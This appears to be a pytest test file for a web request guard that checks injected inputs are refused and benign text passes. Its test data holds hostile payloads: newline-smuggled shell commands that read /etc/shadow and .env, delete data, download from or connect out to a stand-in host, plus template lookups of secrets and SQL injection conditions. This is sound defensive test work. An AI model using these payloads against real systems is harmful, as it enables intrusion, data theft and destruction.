"""A command on a line of its own, a lookup of a secret, a condition in place of a number."""

# ruff: noqa: E501  (tables: one row a line)
from __future__ import annotations

import json
from urllib.parse import quote

import pytest

from guard_wsgi.detection import Inspection
from tests.detection.requests import environ

FORM = "application/x-www-form-urlencoded"


def refused(inspection: Inspection, place: str, name: str, text: str) -> bool:
    pair = f"{name}={quote(text, safe='')}"
    if place == "query":
        return bool(inspection.head(environ(query="page=2&" + pair)))
    if place == "form":
        return bool(inspection.body(pair.encode(), content_type=FORM))
    return bool(inspection.body(json.dumps({name: text}).encode(), content_type="application/json"))


COMMANDS = (
    "x\ncat /etc/passwd\nok",
    "x\r\ncat /etc/passwd\r\nok",
    "a\ntail -n 5 /etc/shadow\nb",
    "1.2.3.4\nwget http://e.vil/a\nok ok",
    "x\nrm -rf /srv\nok",
    "x\nbash /tmp/x\nok",
    "a\ncat .env\nb",
    "the report is done\nwget e.vil/x\nsh x\nthank you",
    "hello\ncurl http://e.vil/x -o /tmp/x\nthank you",
    "a b c\nnc e.vil 4444\nd e f",
    "a\nsudo cat /etc/shadow\nb",
    "shop\n\t/usr/bin/python3 /tmp/x.py\ncart",
)


@pytest.mark.parametrize("text", COMMANDS)
@pytest.mark.parametrize("name", ["host", "ip", "q", "name", "id", "file", "email", "user"])
def test_a_command_on_a_line_of_its_own_is_refused_in_an_input_of_one_line(
    inspection: Inspection, name: str, text: str
) -> None:
    for place in ("query", "form", "json"):
        assert refused(inspection, place, name, text), place


@pytest.mark.parametrize("name", ["comment", "text", "description", "body", "message"])
@pytest.mark.parametrize(
    "text",
    [
        "Please run this and tell me what it says:\ntail -n 5 /var/log/syslog\nThank you!",
        "To install it:\n\nsudo apt update\nsudo apt install nginx\n\nThen open the page.",
        "I tried\ncurl http://localhost:8080/health\nand it says nothing.",
        "Steps:\n1. clone it\n2. run\n\n    bash ./install.sh\n\n3. done, have fun with it",
        "Dear Ann,\ncat pictures are attached.\nls\nbest regards",
    ],
)
def test_a_command_that_a_text_names_passes(inspection: Inspection, name: str, text: str) -> None:
    for place in ("form", "json"):
        assert not refused(inspection, place, name, text), place


@pytest.mark.parametrize(
    "text",
    [
        "{{user.password}}",
        "{{ customer.secret_key }}",
        "{{ account.owner.api_key }}",
        "{{ messages.storages.0.signer.key }}",
        "{% include 'secret.html' %}",
        '{%- extends "admin/base.html" -%}',
        "{% load log %}{% get_admin_log 9 as x %}{% for e in x %}{{e.user.password}}{% endfor %}",
        "{% debug %}",
    ],
)
@pytest.mark.parametrize("name", ["q", "name", "title", "item"])
def test_a_look_up_that_tells_a_secret_is_refused(
    inspection: Inspection, name: str, text: str
) -> None:
    assert refused(inspection, "query", name, text)
    assert refused(inspection, "form", name, text)


@pytest.mark.parametrize(
    "text",
    [
        "Hi {{ user.first_name }}, reset your password here: {{ reset_url }}",
        "{{ user.name }}",
        "{{ .Values.auth.password | quote }}",
        "Where do I put {% include 'header.html' %} in my theme?",
        "<p>{{ customer.name }}</p>\n{% include 'footer.html' %}",
    ],
)
def test_a_template_that_shows_a_page_passes(inspection: Inspection, text: str) -> None:
    for place in ("form", "json"):
        assert not refused(inspection, place, "template_text", text), place


CONDITIONS = (
    *("-1 or id>0", "1 or 1", "1 and pw like 'S%'", "id in (1,2)", "title like 'h%' desc", "pw like 'S%'"),
    *("substr(pw,1,1)", "iif(1,id,title)", "id between 0 and 9", "(1)or(1)", "pw is not null", "a or b=1"),
)  # fmt: skip


@pytest.mark.parametrize("text", CONDITIONS)
@pytest.mark.parametrize("name", ["id", "user_id", "sort", "order_by", "page", "limit"])
def test_a_condition_in_place_of_a_number_or_a_column_is_refused(
    inspection: Inspection, name: str, text: str
) -> None:
    for place in ("query", "form", "json"):
        assert refused(inspection, place, name, text), place


@pytest.mark.parametrize(
    ("name", "text"),
    [
        *((name, text) for name in ("sort", "order_by") for text in ("title", "-price", "price desc, title asc", "name,asc", "random()")),
        *((name, text) for name in ("id", "user_id") for text in ("17", "a-b-c", "3f2c", "12,13", "ORD 2024 15")),
        *((name, text) for name in ("q", "title", "answer") for text in ("1 or 2 items", "3 in stock", "tea or coffee", "5 is enough", "what is not null")),
        ("page", "2 of 3"),
    ],
)  # fmt: skip
def test_an_order_a_number_and_a_phrase_pass(inspection: Inspection, name: str, text: str) -> None:
    for place in ("query", "form", "json"):
        assert not refused(inspection, place, name, text), place
